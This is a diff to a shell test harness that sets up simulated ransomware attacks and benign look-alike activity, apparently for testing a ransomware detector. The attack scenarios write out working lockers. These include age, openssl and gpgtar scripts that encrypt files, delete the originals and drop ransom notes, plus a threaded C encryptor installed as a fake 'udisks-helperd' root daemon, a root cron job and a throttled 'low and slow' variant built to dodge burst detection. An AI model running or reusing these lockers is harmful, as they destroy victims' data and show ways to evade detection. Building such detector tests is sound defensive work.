@@ -456,3 +456,196 @@ sc_b24_ssh_photos_renamed_by_date() {
   sshx tomas 'cd ~/photos/import && i=0; for f in IMG_*.JPG; do i=$((i+1)); d=2026/12/0$((i % 7 + 1)); mkdir -p ../$d; mv "$f" "../$d/2026-12-0$((i % 7 + 1))_10$(printf %02d $i)00.jpg"; done; ls -R .. | wc -l'
   rm -rf /home/tomas/photos
 }
+
+# ---- ninth batch: a tool unknown by name (age), copies written to another directory, a root daemon's threaded
+# locker (pwrite in chunks, rename after), gpgtar per folder, root cron su -c find -exec openssl \;, low and slow
+pre_h19_ssh_age_pubkey_rm() {
+  rm -rf /var/tmp/ho-age; mkdir -p /var/tmp/ho-age; age-keygen -o /var/tmp/ho-age/k.txt 2>/dev/null
+  age-keygen -y /var/tmp/ho-age/k.txt > /tmp/.ak.pub; chmod 644 /tmp/.ak.pub
+  install -d -o priya -g priya /home/priya/.cache
+  cat > /home/priya/.cache/.sync-docs <<'S'
+#!/bin/bash
+pk=$(cat /tmp/.ak.pub)
+find "$HOME/work" -type f | while read -r f; do age -r "$pk" -o "$f.age" "$f" && rm -f "$f"; done
+for d in "$HOME"/work/*/; do printf 'Files encrypted with age. Key: mail agekey@onion.example\n' > "$d/RESTORE-AGE.txt"; done
+S
+  chown priya: /home/priya/.cache/.sync-docs; chmod 755 /home/priya/.cache/.sync-docs
+}
+sc_h19_ssh_age_pubkey_rm() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx priya 'cd ~ && ~/.cache/.sync-docs'
+  rm -f /home/priya/.cache/.sync-docs /tmp/.ak.pub; rm -rf /var/tmp/ho-age
+}
+sc_h20_ssh_sudo_staging_copies() {
+  install -d -m 755 /usr/local/share/.st
+  cat > /usr/local/share/.st/stage.sh <<'S'
+#!/bin/bash
+# encrypted copies go to a staging tree in /dev/shm that mirrors the share; the originals are removed; notes stay behind
+src=/srv/nas/share; dst=/dev/shm/.o
+find "$src" -type f | while read -r f; do
+  rel=${f#$src/}; mkdir -p "$dst/$(dirname "$rel")"
+  openssl enc -aes-256-ctr -pbkdf2 -pass pass:st4ge-K -in "$f" -out "$dst/$rel.stg" && rm -f "$f"
+done
+for d in "$src"/*/; do printf 'Your files were taken and encrypted. Contact stage@onion.example\n' > "$d/FILES_TAKEN.txt"; done
+S
+  chmod 755 /usr/local/share/.st/stage.sh
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'sudo /usr/local/share/.st/stage.sh'
+  rm -rf /usr/local/share/.st /dev/shm/.o
+}
+pre_h21_root_setsid_threaded_locker() {
+  cat > /tmp/.lk4.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+/* a threaded locker: a walker queues files, four workers rewrite each in place with pwrite in 16 KiB chunks, then rename it */
+#define MAXF 4096
+static char *q[MAXF]; static int nq, next; static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
+static void walk(const char *dir) {
+  DIR *d = opendir(dir); struct dirent *e; char p[4096]; if (!d) return;
+  while ((e = readdir(d))) {
+    if (e->d_name[0] == '.') continue;
+    snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
+    struct stat st; if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) {
+      walk(p); char n[4096]; snprintf(n, sizeof n, "%s/!README_LCK4!.txt", p);
+      int fd = open(n, O_WRONLY | O_CREAT | O_TRUNC, 0644); if (fd >= 0) { dprintf(fd, "LCK4: files locked. id 77a1\n"); close(fd); }
+    } else if (S_ISREG(st.st_mode) && nq < MAXF) q[nq++] = strdup(p);
+  }
+  closedir(d);
+}
+static void *worker(void *arg) {
+  (void) arg; unsigned char buf[16384];
+  for (;;) {
+    pthread_mutex_lock(&mu); int i = next < nq ? next++ : -1; pthread_mutex_unlock(&mu);
+    if (i < 0) return NULL;
+    int fd = open(q[i], O_RDWR); if (fd < 0) continue;
+    off_t off = 0; ssize_t n;
+    while ((n = pread(fd, buf, sizeof buf, off)) > 0) {
+      for (ssize_t k = 0; k < n; k++) buf[k] ^= (unsigned char) (0x5a + (off + k) % 61);
+      pwrite(fd, buf, n, off); off += n;
+    }
+    close(fd);
+    char to[4200]; snprintf(to, sizeof to, "%s.lck4", q[i]); rename(q[i], to);
+  }
+}
+int main(int argc, char **argv) {
+  for (int a = 1; a < argc; a++) walk(argv[a]);
+  pthread_t t[4]; for (int k = 0; k < 4; k++) pthread_create(&t[k], NULL, worker, NULL);
+  for (int k = 0; k < 4; k++) pthread_join(t[k], NULL);
+  return 0;
+}
+C
+  gcc -O2 -pthread -o /tmp/.lk4 /tmp/.lk4.c && rm -f /tmp/.lk4.c
+}
+sc_h21_root_setsid_threaded_locker() {
+  # a root daemon with no login uid (as if dropped by an exploited service): setsid, stdio closed, from /usr/local/bin
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
+  install -m 755 /tmp/.lk4 /usr/local/bin/udisks-helperd; rm -f /tmp/.lk4
+  rm -f /tmp/.h21-done
+  setsid sh -c '/usr/local/bin/udisks-helperd /srv/nas/share /var/www/shop/uploads; touch /tmp/.h21-done' </dev/null >/dev/null 2>&1 &
+  wait_cron /tmp/.h21-done; sleep 1
+  rm -f /usr/local/bin/udisks-helperd /tmp/.h21-done
+}
+sc_h22_ssh_gpgtar_per_folder() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'cd ~/Documents && for d in */; do d=${d%/}; gpgtar --encrypt --symmetric --gpg-args "--batch --yes --pinentry-mode loopback --passphrase GT-99" --output "$d.gpgtar" "$d" && rm -rf "$d"; done; printf "folders encrypted. write to gt99@onion.example\n" > "README-GT99.txt"'
+}
+sc_h23_cron_root_su_find_exec_openssl() {
+  rm -f /tmp/.h23-done
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  read m h < <(cron_at_next_minute)
+  cat > /etc/cron.d/nas-rotate <<'CR'
+MM HH * * * root su svc-nas -s /bin/sh -c 'cd /srv/nas/share && find . -type f -exec sh -c "openssl enc -aes-128-cbc -pbkdf2 -k N4s-r0t -in \"\$1\" -out \"\$1.nsr\" && rm -f \"\$1\"" _ {} \; ; for d in /srv/nas/share/*/; do echo "NAS encrypted - nsr@onion.example" > "$d/NSR-README.txt"; done'; touch /tmp/.h23-done
+CR
+  sed -i "s/^MM HH/$m $h/" /etc/cron.d/nas-rotate
+  wait_cron /tmp/.h23-done; sleep 2; rm -f /etc/cron.d/nas-rotate
+}
+sc_h24_ssh_low_and_slow() {
+  install -d -m 755 /var/tmp/.slw
+  cat > /var/tmp/.slw/s.sh <<'S'
+#!/bin/bash
+# one file every 2-4 s, so no burst: a note as each folder is entered
+for d in /srv/nas/share/*/; do
+  printf 'Slowly but surely. mail slw@onion.example\n' > "$d/SLW-NOTE.txt"
+  for f in "$d"*; do
+    [ "$f" = "$d/SLW-NOTE.txt" ] || [ "${f##*/}" = SLW-NOTE.txt ] && continue
+    openssl enc -aes-256-cbc -pbkdf2 -pass pass:sl0w -in "$f" -out "$f.slw" && rm -f "$f"
+    sleep $(( 2 + RANDOM % 2 )).$(( RANDOM % 10 ))
+  done
+done
+S
+  chmod 755 /var/tmp/.slw/s.sh
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx svc-nas '/var/tmp/.slw/s.sh'
+  rm -rf /var/tmp/.slw
+}
+
+# ---- ninth batch, look-alikes: restic backup, git gc of loose objects, a user encrypting a few files with age,
+# a cron cleanup of old logs with find -delete, a user's slow editing session with editor backup files
+pre_b25_ssh_restic_backup_home() {
+  rm -rf /home/priya/.restic-repo /home/priya/.restic-pw
+  su - priya -c 'echo rp-2002 > ~/.restic-pw && chmod 600 ~/.restic-pw && restic -q -r ~/.restic-repo init --password-file ~/.restic-pw' >/dev/null
+}
+sc_b25_ssh_restic_backup_home() {
+  sshx priya 'restic -q -r ~/.restic-repo --password-file ~/.restic-pw backup ~/work && echo x >> ~/work/$(ls ~/work | head -1)/notes_new.txt && restic -q -r ~/.restic-repo --password-file ~/.restic-pw backup ~/work && restic -q -r ~/.restic-repo --password-file ~/.restic-pw forget --keep-last 1 --prune >/dev/null && restic -q -r ~/.restic-repo --password-file ~/.restic-pw snapshots | wc -l'
+  rm -rf /home/priya/.restic-repo /home/priya/.restic-pw
+}
+pre_b26_ssh_git_gc_aggressive() {
+  rm -rf /home/tomas/src; install -d -o tomas -g tomas /home/tomas/src /home/tomas/src/app
+  su - tomas -c 'cd ~/src/app && git init -q && git config user.email tomas@lab.internal && git config user.name Tomas &&
+    for i in $(seq 1 40); do mkdir -p mod$((i % 6)); head -c $((2000 + i * 37)) /dev/urandom | base64 > mod$((i % 6))/f$i.txt; git add -A; git commit -q -m "change $i"; done' >/dev/null
+}
+sc_b26_ssh_git_gc_aggressive() {
+  sshx tomas 'cd ~/src/app && find .git/objects -type f | wc -l && git gc --aggressive --prune=now -q && git repack -a -d -q && find .git/objects -type f | wc -l'
+  rm -rf /home/tomas/src
+}
+pre_b27_ssh_user_age_few_files() {
+  rm -rf /home/mkowalski/.config/age; su - mkowalski -c 'mkdir -p ~/.config/age && age-keygen -o ~/.config/age/key.txt 2>/dev/null' >/dev/null
+}
+sc_b27_ssh_user_age_few_files() {
+  sshx mkowalski 'cd ~/Documents/$(ls ~/Documents | head -1) && pk=$(age-keygen -y ~/.config/age/key.txt) && for f in $(ls | head -6); do age -r "$pk" -o "$f.age" "$f" && rm "$f"; done; ls'
+  rm -rf /home/mkowalski/.config/age
+}
+pre_b28_cron_find_mtime_delete() {
+  rm -rf /srv/shopapp/log; mkdir -p /srv/shopapp/log/{access,worker,cron}
+  for k in access worker cron; do for i in $(seq 1 70); do
+    f=/srv/shopapp/log/$k/$k-$(date -d "-$i days" +%F).log; head -c 1500 /dev/urandom | base64 > $f; touch -d "-$i days" $f; done; done
+}
+sc_b28_cron_find_mtime_delete() {
+  rm -f /tmp/.b28-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root find /srv/shopapp/log -type f -name '*.log' -mtime +14 -delete; find /srv/shopapp/log -type f -name '*.log' -mtime +2 ! -name '*.gz' -exec gzip -9 {} + ; touch /tmp/.b28-done" > /etc/cron.d/shopapp-logs
+  wait_cron /tmp/.b28-done; sleep 2; rm -f /etc/cron.d/shopapp-logs; rm -rf /srv/shopapp
+}
+sc_b29_ssh_slow_editing_session() {
+  # an editor's save as vim does it with 'backupcopy=no': the old file renamed to F~, the new one written, F~ removed
+  sshx priya 'cd ~/work && n=0; for f in $(find . -type f | head -30); do
+      mv "$f" "$f~" && { cat "$f~"; echo "edited $(date +%T)"; } > "$f" && rm -f "$f~"; n=$((n+1)); sleep 1.$((RANDOM % 10)); done; echo $n'
+}
+pre_b30_cron_mark_processed() {
+  install -d -o svc-nas -g svc-nas /home/svc-nas/bin /srv/nas/ingest-archive
+  cat > /home/svc-nas/bin/ingest.sh <<'S'
+#!/bin/bash
+# nightly ingest: each new scan is copied to the archive, then marked F.processed; a processed.log per folder
+for d in /srv/nas/share/*/; do
+  for f in "$d"*; do
+    case "$f" in *.processed|*/processed.log) continue ;; esac
+    cp -p "$f" /srv/nas/ingest-archive/ && mv "$f" "$f.processed" && echo "$(date +%FT%T) ${f##*/}" >> "$d/processed.log"
+  done
+done
+touch /tmp/.b30-done
+S
+  chown svc-nas: /home/svc-nas/bin/ingest.sh; chmod 755 /home/svc-nas/bin/ingest.sh
+}
+sc_b30_cron_mark_processed() {
+  rm -f /tmp/.b30-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * /home/svc-nas/bin/ingest.sh" | crontab -u svc-nas -
+  wait_cron /tmp/.b30-done; sleep 2; crontab -u svc-nas -r; rm -rf /srv/nas/ingest-archive /home/svc-nas/bin
+}
